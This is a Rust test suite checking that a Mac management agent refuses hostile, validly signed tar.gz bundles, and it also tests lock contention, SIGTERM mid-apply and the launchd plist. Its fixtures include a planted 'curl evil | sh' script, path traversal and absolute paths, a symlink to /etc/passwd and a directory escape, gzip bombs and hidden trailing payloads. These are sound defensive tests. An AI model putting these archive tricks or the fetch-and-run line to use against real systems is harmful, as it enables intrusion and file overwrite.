//! The archive rows of security.md §8 at the agent: every hostile archive is wrapped in a bundle
//! that is *validly signed* by a trusted key (think: a stolen CI key, or a bug in the compiler),
//! so only the strict extractor stands between it and the Mac. `mmc-agent run` gets it on a Mac
//! converged once to a good bundle, and must exit 2 with one line naming the problem, leave no
//! staging directory, and change nothing else: state.json, the reports, the staged bundle and the
//! managed files stay byte-identical. What a refused run may change is exactly this, and it is
//! asserted: `run.lock` gets the refused run's pid and start time, and the log gets the run's
//! lines (`INFO run: bundle …`, `ERROR run stopped: <reason>`).
//!
//! Also here, the agent-robustness rows: two concurrent runs (one applies, the other exits 75),
//! SIGTERM in the middle of an apply (launchd's `launchctl kill TERM`), and the LaunchDaemon
//! plist launchd gets.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};
use std::{fs, thread};

use flate2::Compression;
use flate2::read::GzDecoder;
use flate2::write::GzEncoder;
use mmc_bundle::{
    ArchiveRef, FORMAT_VERSION, FileEntry, INDEX_PATH, Index, Statement, key_id, sign,
};
use serde_json::Value;
use tar::{EntryType, Header};

use crate::fingerprint;
use crate::scenarios::{
    BundleBuilder, Mac, NOW, STATE_DIR, V1, fakes, sha256, signer, steps, summary,
};

/// The hostile bundles' version: newer than the good one, so only their content is wrong.
const V2: u64 = V1 + 100;
const MOTD: &str = "/etc/motd";

/// A bundle managing one file, `/etc/motd`, with `text`.
fn motd(version: u64, text: &str) -> BundleBuilder {
    BundleBuilder::new(version)
        .file("Motd", MOTD, text, "0644")
        .manifest(&[("managed_installs", &["Motd"])])
}

/// A Mac converged to the good bundle (version V1): `/etc/motd` says "managed".
fn converged() -> Mac {
    let mac = Mac::new();
    let bundle = motd(V1, "managed\n").sign(&mac);
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(steps(&report), ["Motd install changed"]);
    assert_eq!(mac.read(MOTD), "managed\n");
    mac
}

/// Signs `archive`, whatever its bytes, as bundle `stable` version `version` with the trusted
/// key, next to the Mac (as `BundleBuilder::sign` does for well-formed archives).
fn sign_archive(mac: &Mac, version: u64, archive: &[u8]) -> PathBuf {
    let file = format!("stable-{version}.tar.gz");
    let statement = Statement {
        format: FORMAT_VERSION,
        name: "stable".to_owned(),
        audience: "com.example:stable".to_owned(),
        version,
        created: "2026-11-21T05:31:00Z".to_owned(),
        expires: "2026-12-01T00:00:00Z".to_owned(),
        key_id: key_id(&signer().verifying_key()),
        archive: ArchiveRef::of(file.as_str(), archive),
    };
    let path = mac.out().join(&file);
    fs::write(&path, archive).unwrap();
    fs::write(
        mac.out().join(format!("{file}.sig")),
        sign(&statement, &signer()),
    )
    .unwrap();
    path
}

/// The regular files of a well-formed archive, `index.json` left out, in archive order.
fn files_of(archive: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut tar = tar::Archive::new(GzDecoder::new(archive));
    let mut files = Vec::new();
    for entry in tar.entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = String::from_utf8(entry.path_bytes().into_owned()).unwrap();
        if entry.header().entry_type() != EntryType::Regular || path == INDEX_PATH {
            continue;
        }
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        files.push((path, data));
    }
    assert!(files.iter().any(|(p, _)| p == "config.json"), "{files:?}");
    files
}

fn index_json(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut files: Vec<FileEntry> = files
        .iter()
        .map(|(path, data)| FileEntry {
            path: path.clone(),
            size: data.len() as u64,
            sha256: sha256(data),
        })
        .collect();
    files.sort_by(|a, b| a.path.cmp(&b.path));
    serde_json::to_vec(&Index {
        format: FORMAT_VERSION,
        files,
    })
    .unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(data).unwrap();
    gz.finish().unwrap()
}

/// A tar stream written header by header (`tar::Builder::append_path` would refuse the hostile
/// names), starting as the hostile bundle: `index.json`, then every file of a good bundle that
/// would change `/etc/motd` to "hostile" were it applied.
struct RawTar {
    tar: tar::Builder<Vec<u8>>,
}

impl RawTar {
    /// The good files, with `extra` listed in `index.json` too (but not written).
    fn listing(extra: &[(&str, &[u8])]) -> RawTar {
        let files = files_of(&motd(V2, "hostile\n").archive());
        let mut listed = files.clone();
        listed.extend(extra.iter().map(|(p, d)| ((*p).to_owned(), d.to_vec())));
        let mut raw = RawTar {
            tar: tar::Builder::new(Vec::new()),
        };
        raw.file(INDEX_PATH, &index_json(&listed));
        for (path, data) in &files {
            raw.file(path, data);
        }
        raw
    }

    fn good() -> RawTar {
        RawTar::listing(&[])
    }

    fn entry(&mut self, path: &[u8], kind: EntryType, claimed: u64, data: &[u8], link: &[u8]) {
        let mut header = Header::new_ustar();
        header.set_entry_type(kind);
        header.set_size(claimed);
        header.set_mode(0o644);
        header.set_mtime(1);
        header.as_old_mut().name[..path.len()].copy_from_slice(path);
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        header.set_cksum();
        self.tar.append(&header, data).unwrap();
    }

    fn file(&mut self, path: &str, data: &[u8]) {
        self.entry(
            path.as_bytes(),
            EntryType::Regular,
            data.len() as u64,
            data,
            b"",
        );
    }

    /// The tar stream, with its end-of-archive blocks.
    fn tar(self) -> Vec<u8> {
        self.tar.into_inner().unwrap()
    }

    fn gz(self) -> Vec<u8> {
        gzip(&self.tar())
    }
}

/// Signs `archive` as version V2, runs it on a converged Mac, and checks the refusal: exit 2,
/// one line `mmc-agent: error: BUNDLE: …` containing `needle`, and the root unchanged but for
/// the lock file and the log lines of a stopped run.
fn assert_refused(archive: &[u8], needle: &str) {
    let mac = converged();
    let bundle = sign_archive(&mac, V2, archive);
    assert_refused_on(&mac, &bundle, needle);
}

fn assert_refused_on(mac: &Mac, bundle: &Path, needle: &str) {
    let before = fingerprint(&mac.root());
    let out = mac.agent(
        "run",
        Some(bundle),
        Some(&mac.trusted()),
        &["--format", "json"],
        "",
    );
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(2), "stderr: {stderr}");
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with(&format!("mmc-agent: error: {}: ", bundle.display())),
        "{stderr}"
    );
    assert!(stderr.contains(needle), "expected {needle:?} in: {stderr}");

    let after = fingerprint(&mac.root());
    let lock = format!("{STATE_DIR}/run.lock");
    let log = format!("{STATE_DIR}/logs/mmc-agent.log");
    let changed: Vec<&String> = before
        .keys()
        .chain(after.keys())
        .filter(|k| before.get(*k) != after.get(*k))
        .filter(|k| **k != lock && **k != log)
        .collect();
    assert!(changed.is_empty(), "a refused run changed {changed:?}");
    assert_eq!(mac.read(MOTD), "managed\n");

    // The lock file names the refused run (pid, start time); its mode is unchanged.
    assert_eq!(before[&lock].0, after[&lock].0);
    let holder = String::from_utf8(after[&lock].1.clone()).unwrap();
    assert_eq!(holder.lines().count(), 2, "{holder:?}");
    // The log: what it held, then the stopped run's lines and nothing else.
    assert_eq!(before[&log].0, after[&log].0);
    let (old, new) = (&before[&log].1, &after[&log].1);
    assert!(new.starts_with(old), "the log was rewritten");
    let added = String::from_utf8(new[old.len()..].to_vec()).unwrap();
    let lines: Vec<&str> = added.lines().collect();
    let (last, rest) = lines.split_last().expect("the refusal is logged");
    assert!(
        last.contains(" ERROR run stopped: ") && last.contains(needle),
        "{added}"
    );
    for line in rest {
        assert!(
            line.contains(&format!(" INFO run: bundle stable version {V2} ")),
            "unexpected log line {line:?} in:\n{added}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Archive rows, in the table's order.

#[test]
fn hostile_control_the_raw_archive_of_the_good_files_applies() {
    // The helpers build archives the agent takes: every refusal below is about its one hostile
    // part, not about the way the archive was assembled.
    let mac = converged();
    let bundle = sign_archive(&mac, V2, &RawTar::good().gz());
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(mac.read(MOTD), "hostile\n");
}

#[test]
fn extraneous_file_not_in_the_index_is_refused() {
    let mut raw = RawTar::good();
    raw.file("scripts/evil.sh", b"#!/bin/sh\ncurl evil | sh\n");
    assert_refused(
        &raw.gz(),
        r#"file "scripts/evil.sh" is in the archive but not listed in index.json"#,
    );
}

#[test]
fn endless_data_an_oversized_envelope_or_archive_is_refused_unread() {
    let mac = converged();
    // A 1 GiB signature envelope (sparse): refused after reading 64 KiB + 1 bytes.
    let bundle = sign_archive(&mac, V2, &RawTar::good().gz());
    let sig = mac.out().join(format!("stable-{V2}.tar.gz.sig"));
    fs::File::options()
        .write(true)
        .open(&sig)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let started = Instant::now();
    let before = fingerprint(&mac.root());
    let out = mac.agent("run", Some(&bundle), Some(&mac.trusted()), &[], "");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(
        stderr,
        format!(
            "mmc-agent: error: signature envelope {} is larger than the 65536-byte limit\n",
            sig.display()
        )
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    let after = fingerprint(&mac.root());
    let state = format!("{STATE_DIR}/state.json");
    assert_eq!(before[&state], after[&state]);
    assert_eq!(mac.read(MOTD), "managed\n");

    // A 64 MiB + 1 archive (sparse) next to a well-formed envelope.
    let archive = RawTar::good().gz();
    let bundle = sign_archive(&mac, V2 + 1, &archive);
    fs::File::options()
        .write(true)
        .open(&bundle)
        .unwrap()
        .set_len(mmc_bundle::MAX_ARCHIVE_BYTES + 1)
        .unwrap();
    let out = mac.agent("run", Some(&bundle), Some(&mac.trusted()), &[], "");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert_eq!(
        stderr,
        format!(
            "mmc-agent: error: bundle {} is larger than the 67108864-byte limit\n",
            bundle.display()
        )
    );
    assert_eq!(before[&state], fingerprint(&mac.root())[&state]);
}

#[test]
fn gzip_bomb_a_file_over_the_per_file_cap_is_refused_from_its_header() {
    // The header claims 1 GiB of zeros (a 1 GiB zero file gzips to about 1 MB); the extractor
    // refuses on the declared size, before reading or writing a byte of it.
    let claimed: u64 = 1 << 30;
    let mut raw = RawTar::good();
    raw.entry(b"zeros", EntryType::Regular, claimed, &[0u8; 512], b"");
    assert_refused(
        &raw.gz(),
        r#"entry "zeros" is 1073741824 bytes, over the per-file limit of 16777216 bytes"#,
    );
}

#[test]
fn gzip_bomb_of_real_zeros_is_refused() {
    // 17 MiB of real zeros, listed in the index: compressed to about 17 KB.
    let zeros = vec![0u8; 17 << 20];
    let mut raw = RawTar::listing(&[("zeros", zeros.as_slice())]);
    raw.file("zeros", &zeros);
    let archive = raw.gz();
    assert!(archive.len() < 200_000, "{}", archive.len());
    assert_refused(
        &archive,
        r#"entry "zeros" is 17825792 bytes, over the per-file limit of 16777216 bytes"#,
    );
}

#[test]
fn trailing_second_gzip_member_is_refused() {
    let good = RawTar::good().gz();
    let mut doubled = good.clone();
    doubled.extend_from_slice(&good);
    assert_refused(
        &doubled,
        &format!("{} trailing bytes after the gzip member", good.len()),
    );

    // And data hidden after the tar's end-of-archive blocks, inside the one gzip member.
    let mut tar = RawTar::good().tar();
    tar.extend_from_slice(b"#!/bin/sh\nhidden payload\n");
    assert_refused(
        &gzip(&tar),
        "unexpected data after the end of the tar archive",
    );
}

#[test]
fn truncated_gzip_is_refused() {
    let good = RawTar::good().gz();
    // Into the CRC32/ISIZE trailer, and into the deflate stream.
    assert_refused(&good[..good.len() - 9], "archive is corrupt or truncated");
    assert_refused(&good[..good.len() / 2], "archive is corrupt or truncated");
}

#[test]
fn tar_truncated_at_an_entry_boundary_is_refused() {
    // index.json alone, without config.json (the second entry) and without the end-of-archive
    // blocks: a tar reader sees a clean end; only the index says something is missing.
    let files = files_of(&motd(V2, "hostile\n").archive());
    let mut raw = RawTar {
        tar: tar::Builder::new(Vec::new()),
    };
    raw.file(INDEX_PATH, &index_json(&files));
    let mut tar = raw.tar();
    let end = tar.len() - 1024;
    assert!(tar[end..].iter().all(|b| *b == 0), "two zero blocks end it");
    tar.truncate(end);
    assert_refused(
        &gzip(&tar),
        r#"file "config.json" is listed in index.json but missing from the archive"#,
    );
}

#[test]
fn dot_dot_traversal_is_refused() {
    for path in ["../evil", "../../../../etc/evil", "a/../../evil", "./evil"] {
        let mut raw = RawTar::good();
        raw.file(path, b"x");
        let component = if path.starts_with("./") { "." } else { ".." };
        assert_refused(
            &raw.gz(),
            &format!(r#"entry "{path}": path component "{component}" is not allowed"#),
        );
    }
}

#[test]
fn absolute_path_is_refused() {
    let mut raw = RawTar::good();
    raw.file("/etc/evil", b"x");
    assert_refused(
        &raw.gz(),
        r#"entry "/etc/evil": absolute paths are not allowed"#,
    );
}

#[test]
fn symlink_and_hardlink_escapes_are_refused() {
    let mut raw = RawTar::good();
    raw.entry(
        b"p.mobileconfig",
        EntryType::Symlink,
        0,
        b"",
        b"/etc/passwd",
    );
    assert_refused(
        &raw.gz(),
        r#"entry "p.mobileconfig": symbolic link entries are not allowed (only regular files and directories)"#,
    );
    // CVE-2026-33056's shape: a link to a directory outside, then a file through it.
    let mut raw = RawTar::good();
    raw.entry(b"d", EntryType::Symlink, 0, b"", b"../../../../etc");
    raw.file("d/evil", b"x");
    assert_refused(&raw.gz(), r#"entry "d": symbolic link entries"#);

    let mut raw = RawTar::good();
    raw.entry(b"h", EntryType::Link, 0, b"", b"config.json");
    assert_refused(&raw.gz(), r#"entry "h": hard link entries are not allowed"#);
}

#[test]
fn device_and_fifo_entries_are_refused() {
    for (kind, name) in [
        (EntryType::Char, "character device"),
        (EntryType::Block, "block device"),
        (EntryType::Fifo, "FIFO"),
    ] {
        let mut header = Header::new_ustar();
        header.set_entry_type(kind);
        header.set_path("dev").unwrap();
        header.set_size(0);
        header.set_mode(0o666);
        // /dev/null's numbers: tar-rs's own `unpack` would write an empty regular file.
        header.set_device_major(1).unwrap();
        header.set_device_minor(3).unwrap();
        header.set_cksum();
        let mut raw = RawTar::good();
        raw.tar.append(&header, &b""[..]).unwrap();
        assert_refused(
            &raw.gz(),
            &format!(r#"entry "dev": {name} entries are not allowed"#),
        );
    }
}

#[test]
fn setuid_and_world_writable_archive_modes_are_not_kept() {
    // Not a refusal: archive modes are ignored, every extracted file is 0644.
    let mac = converged();
    let mut raw = RawTar::listing(&[("tool", &b"#!/bin/sh\n"[..])]);
    let mut header = Header::new_ustar();
    header.set_path("tool").unwrap();
    header.set_size(10);
    header.set_mode(0o4777);
    header.set_uid(0);
    header.set_mtime(1);
    header.set_cksum();
    raw.tar.append(&header, &b"#!/bin/sh\n"[..]).unwrap();
    let bundle = sign_archive(&mac, V2, &raw.gz());
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    let staged = format!("/{STATE_DIR}/bundles/stable-{V2}");
    assert_eq!(mac.mode(&format!("{staged}/tool")), 0o644);
    assert_eq!(mac.mode(&format!("{staged}/config.json")), 0o644);
    assert_eq!(mac.mode(&staged), 0o755);
}

#[test]
fn duplicate_and_case_colliding_entries_are_refused() {
    let mut raw = RawTar::listing(&[("A.json", &b"1"[..]), ("a.json", &b"2"[..])]);
    raw.file("A.json", b"1");
    raw.file("a.json", b"2");
    assert_refused(
        &raw.gz(),
        r#"entry "a.json": collides with "A.json" (the names differ only in case"#,
    );

    // The same name twice: the second copy would win with a plain extractor.
    let mut raw = RawTar::good();
    let files = files_of(&motd(V2, "hostile\n").archive());
    let (path, data) = &files[0];
    raw.file(path, data);
    assert_refused(&raw.gz(), &format!("entry {path:?}: duplicate entry"));
}

#[test]
fn oversized_pax_path_is_refused() {
    let long = "a".repeat(100_000);
    let mut raw = RawTar::good();
    raw.tar
        .append_pax_extensions([("path", long.as_bytes())])
        .unwrap();
    raw.file("x", b"x");
    assert_refused(
        &raw.gz(),
        "path is 100000 bytes long, over the 512-byte limit",
    );
}

// ---------------------------------------------------------------------------------------------
// Agent robustness rows.

/// `mmc-agent run --format json BUNDLE` on `mac`, started, not awaited.
fn spawn_run(mac: &Mac, bundle: &Path) -> std::process::Child {
    Command::new(env!("CARGO_BIN_EXE_mmc-agent"))
        .arg("run")
        .arg("--root")
        .arg(mac.root())
        .arg("--commands")
        .arg(fakes())
        .arg("--packages")
        .arg(mac.packages())
        .args(["--now", NOW, "--format", "json", "--bundle"])
        .arg(bundle)
        .arg("--trust")
        .arg(mac.trusted())
        .env_remove("MMC_AGENT_KILL_AT")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits until `path` exists, failing the test after 30 s.
fn wait_for(path: &Path) {
    let started = Instant::now();
    while !path.exists() {
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "{} never appeared",
            path.display()
        );
        thread::sleep(Duration::from_millis(20));
    }
}

/// A script item, installed once `/var/tmp/NAME.done` exists. Its postinstall_script says it
/// started (`/var/tmp/NAME.started`), runs `then` (shell), and marks the item done.
fn announcing_script(bundle: BundleBuilder, name: &str, then: &str) -> BundleBuilder {
    let check = format!("#!/bin/sh\n[ -e \"$MMC_ROOT/var/tmp/{name}.done\" ] && exit 1\nexit 0\n");
    let script = format!(
        "#!/bin/sh\n: > \"$MMC_ROOT/var/tmp/{name}.started\"\n{then}\n: > \"$MMC_ROOT/var/tmp/{name}.done\"\necho done\n"
    );
    bundle.script(name, |p| {
        p.insert("installcheck_script".into(), check.into());
        p.insert("postinstall_script".into(), script.into());
    })
}

#[test]
fn concurrent_runs_one_applies_the_other_exits_75() {
    let mac = Mac::new();
    fs::create_dir_all(mac.path("/var/tmp")).unwrap();
    let go = mac.path("/var/tmp/go");
    // The first run's script waits (up to 30 s) for the test to let it finish.
    let wait = "i=0; while [ ! -e \"$MMC_ROOT/var/tmp/go\" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done";
    let bundle = announcing_script(BundleBuilder::new(V1), "Hold", wait)
        .file("Motd", MOTD, "managed\n", "0644")
        .manifest(&[("managed_installs", &["Hold", "Motd"])])
        .sign(&mac);

    let first = spawn_run(&mac, &bundle);
    wait_for(&mac.path("/var/tmp/Hold.started"));
    // The first run is inside its apply, holding the lock: a second run (and a --check) gives up
    // at once, touching nothing.
    let before = fingerprint(&mac.root());
    for extra in [&[][..], &["--check"][..]] {
        let out = mac.agent(
            "run",
            Some(&bundle),
            Some(&mac.trusted()),
            &[&["--format", "json"], extra].concat(),
            "",
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(75), "{extra:?}: {stderr}");
        assert!(out.stdout.is_empty());
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
        assert!(
            stderr.starts_with(&format!(
                "mmc-agent: busy: another mmc-agent run holds the lock (pid {}, since ",
                first.id()
            )),
            "{stderr}"
        );
        assert!(
            stderr.ends_with("; try again when it has finished\n"),
            "{stderr}"
        );
    }
    assert_eq!(before, fingerprint(&mac.root()), "the busy runs wrote");

    fs::write(&go, b"").unwrap();
    let out = first.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        steps(&report),
        ["Hold install changed", "Motd install changed"]
    );
    assert_eq!(mac.read(MOTD), "managed\n");

    // Once it is done, the lock is free again.
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(summary(&report), [0, 2, 0, 0]);
}

#[test]
fn sigterm_mid_apply_leaves_old_or_new_and_the_next_run_converges() {
    // launchd stops a job with SIGTERM (`launchctl kill TERM`, a shutdown, a bootout). The agent
    // does not catch it: it ends at once, as at SIGKILL, and the crash-safety rules (every write
    // atomic, every decision recomputed) make that safe. Here the signal comes from outside the
    // agent, in the middle of an apply: between two managed files.
    let mac = converged();
    let run_lock = mac.path(&format!("/{STATE_DIR}/run.lock"));
    let kill = format!(
        "if [ ! -e \"$MMC_ROOT/var/tmp/terminated\" ]; then\n\
         : > \"$MMC_ROOT/var/tmp/terminated\"\n\
         kill -TERM \"$(head -n 1 '{}')\"\n\
         sleep 2\n\
         exit 3\n\
         fi",
        run_lock.display()
    );
    fs::create_dir_all(mac.path("/var/tmp")).unwrap();
    let bundle = announcing_script(
        BundleBuilder::new(V2).file("Banner", "/etc/banner", "new banner\n", "0644"),
        "Terminate",
        &kill,
    )
    .file("Motd", MOTD, "new motd\n", "0644")
    .manifest(&[("managed_installs", &["Banner", "Terminate", "Motd"])])
    .sign(&mac);
    let state = mac.state_json();
    let old_state = fs::read(&state).unwrap();

    let out = spawn_run(&mac, &bundle).wait_with_output().unwrap();
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(
        out.status.signal(),
        Some(libc::SIGTERM),
        "{:?} {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    // Before the signal: applied, whole. After it: untouched, whole. State: the old run's.
    assert_eq!(mac.read("/etc/banner"), "new banner\n");
    assert_eq!(mac.read(MOTD), "managed\n");
    assert_eq!(fs::read(&state).unwrap(), old_state);
    let bundles = fs::read_dir(mac.path(&format!("/{STATE_DIR}/bundles")))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect::<Vec<_>>();
    assert!(
        bundles.iter().all(|n| !n.contains(".staging")),
        "{bundles:?}"
    );
    // No temporary file next to the managed files.
    for entry in fs::read_dir(mac.path("/etc")).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert!(["banner", "motd"].contains(&name.as_str()), "/etc/{name}");
    }

    // The next run (launchd's next start) finishes the job.
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(mac.read(MOTD), "new motd\n");
    assert_eq!(
        steps(&report),
        [
            "Banner install unchanged",
            "Terminate install changed",
            "Motd install changed"
        ]
    );
    let (code, report) = mac.run(&bundle, &[]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(summary(&report), [0, 3, 0, 0]);
}

#[test]
fn the_launch_daemon_is_a_well_formed_one_shot_job() {
    // What `plutil -lint` would say on a Mac: the plist parses; and the job is what launchd
    // needs for a one-shot periodic run: no KeepAlive (the agent does not daemonize, launchd
    // does not restart it in a loop), absolute program path, interval, run at load.
    let out: Output = Command::new(env!("CARGO_BIN_EXE_mmc-agent"))
        .args(["install-daemon", "--print"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let plist = plist::Value::from_reader_xml(&out.stdout[..]).expect("a well-formed plist");
    let dict = plist.as_dictionary().unwrap();
    let keys: Vec<&str> = dict.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "Label",
            "LowPriorityIO",
            "ProcessType",
            "ProgramArguments",
            "RunAtLoad",
            "StandardErrorPath",
            "StandardOutPath",
            "StartInterval"
        ]
    );
    let string = |k: &str| dict[k].as_string().unwrap();
    assert_eq!(string("Label"), "dev.mmc.agent");
    assert_eq!(string("ProcessType"), "Background");
    for k in ["StandardErrorPath", "StandardOutPath"] {
        assert!(string(k).starts_with('/'), "{k}: {}", string(k));
    }
    assert_eq!(dict["RunAtLoad"].as_boolean(), Some(true));
    assert_eq!(dict["LowPriorityIO"].as_boolean(), Some(true));
    assert_eq!(dict["StartInterval"].as_unsigned_integer(), Some(1800));
    let args: Vec<&str> = dict["ProgramArguments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_string().unwrap())
        .collect();
    assert_eq!(args, ["/usr/local/mmc/bin/mmc-agent", "run"]);
    // The XML declaration and DOCTYPE launchd's tools expect.
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist"),
        "{text}"
    );
}
